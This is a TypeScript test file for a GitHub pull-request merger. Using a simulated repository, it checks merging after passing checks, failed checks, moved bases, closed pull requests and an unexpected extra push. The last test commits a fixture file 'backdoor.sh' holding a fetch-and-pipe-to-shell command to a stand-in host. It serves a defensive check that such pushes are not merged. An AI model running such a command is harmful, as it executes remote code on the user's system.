import { ConfigReader } from '@backstage/config';
import { ScmIntegrations } from '@backstage/integration';
import { Octokit } from '@octokit/rest';
import { GithubSimulator } from '@catalyst/github-simulator';
import { GithubPullRequestMerger } from './GithubPullRequestMerger';

describe('GithubPullRequestMerger', () => {
  let simulator: GithubSimulator;
  let merger: GithubPullRequestMerger;
  let ci: Octokit;
  let repository: string;
  let counter = 0;

  beforeAll(async () => {
    simulator = await GithubSimulator.start();
    await simulator.createRepository('acme/web', {
      commits: [{ message: 'init', files: { 'README.md': '# web\n' } }],
    });
    repository = `${simulator.urls.web}/acme/web`;
    merger = new GithubPullRequestMerger({
      integrations: ScmIntegrations.fromConfig(
        new ConfigReader({
          integrations: { github: [simulator.integrationConfig()] },
        }),
      ),
    });
    // Plays the repository's CI, reporting check runs through the API.
    ci = new Octokit({ baseUrl: simulator.urls.api, auth: simulator.token });
  });
  afterAll(() => simulator.stop());

  /** A branch with one commit on main and its open pull request. */
  async function openPullRequest() {
    counter += 1;
    const git = simulator.repository('acme/web');
    const branch = `chore/change-${counter}`;
    await git.updateRef(
      `refs/heads/${branch}`,
      (await git.resolveRef('refs/heads/main'))!,
    );
    const head = await git.commitFiles(
      branch,
      { [`change-${counter}.txt`]: `change ${counter}\n` },
      `chore: change ${counter}`,
    );
    const pull = await simulator.openPullRequest('acme/web', {
      head: branch,
      title: `chore: change ${counter}`,
    });
    return { number: pull.number, head, file: `change-${counter}.txt` };
  }

  async function report(
    head: string,
    name: string,
    status: 'in_progress' | 'completed',
    conclusion?: 'success' | 'failure',
  ) {
    await ci.rest.checks.create({
      owner: 'acme',
      repo: 'web',
      name,
      head_sha: head,
      status,
      conclusion,
    });
  }

  it('waits for checks, then merges once every check passed', async () => {
    const pull = await openPullRequest();
    const merge = () =>
      merger.mergeIfChecksPass({
        repository,
        number: pull.number,
        expectedHeadSha: pull.head,
      });

    expect(await merge()).toMatchObject({
      state: 'waiting',
      detail: expect.stringContaining('No checks have run'),
    });
    await report(pull.head, 'lint', 'completed', 'success');
    await report(pull.head, 'test', 'in_progress');
    expect(await merge()).toMatchObject({
      state: 'waiting',
      detail: 'Waiting for test',
    });

    await report(pull.head, 'test', 'completed', 'success');
    const merged = await merge();
    expect(merged).toMatchObject({ state: 'merged', headSha: pull.head });

    const git = simulator.repository('acme/web');
    const main = await git.resolveRef('refs/heads/main');
    expect(merged.mergeCommitSha).toBe(main);
    expect(await git.readFile('main', pull.file)).toBe(`change ${counter}\n`);
    // Squashed: one new commit on main, titled after the pull request.
    expect((await git.readCommit(main!))?.message).toContain(
      `chore: change ${counter} (#${pull.number})`,
    );
    const stored = simulator
      .pulls('acme/web')
      .find(pr => pr.number === pull.number);
    expect(stored).toMatchObject({ state: 'closed' });
    expect(await merge()).toMatchObject({ state: 'merged' });
  });

  it('leaves a pull request with a failed check open', async () => {
    const pull = await openPullRequest();
    await report(pull.head, 'lint', 'completed', 'success');
    await report(pull.head, 'test', 'completed', 'failure');

    expect(
      await merger.mergeIfChecksPass({
        repository,
        number: pull.number,
        expectedHeadSha: pull.head,
      }),
    ).toMatchObject({
      state: 'checks_failed',
      detail: 'Failed checks: test (failure)',
    });
    expect(
      simulator.pulls('acme/web').find(pr => pr.number === pull.number)?.state,
    ).toBe('open');

    // A re-run that passes replaces the failed run of the same name.
    await report(pull.head, 'test', 'completed', 'success');
    expect(
      await merger.mergeIfChecksPass({
        repository,
        number: pull.number,
        expectedHeadSha: pull.head,
      }),
    ).toMatchObject({ state: 'merged' });
  });

  it('reports a pull request whose base moved on as not mergeable', async () => {
    const pull = await openPullRequest();
    await report(pull.head, 'test', 'completed', 'success');
    await simulator
      .repository('acme/web')
      .commitFiles('main', { 'other.txt': 'other\n' }, 'feat: other work');

    expect(
      await merger.mergeIfChecksPass({
        repository,
        number: pull.number,
        expectedHeadSha: pull.head,
      }),
    ).toMatchObject({
      state: 'not_mergeable',
      detail: 'Pull Request is not mergeable',
    });
  });

  it('merges without checks only when told to', async () => {
    const pull = await openPullRequest();
    expect(
      await merger.mergeIfChecksPass({
        repository,
        number: pull.number,
        expectedHeadSha: pull.head,
        requireChecks: false,
        mergeMethod: 'merge',
      }),
    ).toMatchObject({ state: 'merged' });
    const main = await simulator
      .repository('acme/web')
      .resolveRef('refs/heads/main');
    expect(
      (await simulator.repository('acme/web').readCommit(main!))?.parents,
    ).toContain(pull.head);
  });

  it('reports a closed pull request', async () => {
    const pull = await openPullRequest();
    await ci.rest.pulls.update({
      owner: 'acme',
      repo: 'web',
      pull_number: pull.number,
      state: 'closed',
    });
    expect(
      await merger.mergeIfChecksPass({
        repository,
        number: pull.number,
        expectedHeadSha: pull.head,
      }),
    ).toMatchObject({ state: 'closed' });
  });

  it('stops when someone else pushed to the branch after Catalyst', async () => {
    const pull = await openPullRequest();
    const git = simulator.repository('acme/web');
    const mainBefore = await git.resolveRef('refs/heads/main');
    // Someone with push access adds a commit on top of Catalyst's, and
    // makes the checks pass on it.
    const pushed = await git.commitFiles(
      `chore/change-${counter}`,
      { 'backdoor.sh': 'curl evil | sh\n' },
      'chore: one more thing',
    );
    await report(pushed, 'test', 'completed', 'success');

    const outcome = await merger.mergeIfChecksPass({
      repository,
      number: pull.number,
      expectedHeadSha: pull.head,
    });
    expect(outcome).toMatchObject({
      state: 'not_mergeable',
      headSha: pushed,
      detail: expect.stringContaining('someone else pushed'),
    });
    expect(await git.resolveRef('refs/heads/main')).toBe(mainBefore);
    expect(await git.readFile('main', 'backdoor.sh')).toBeUndefined();
    expect(
      simulator.pulls('acme/web').find(pr => pr.number === pull.number)?.state,
    ).toBe('open');
  });
});
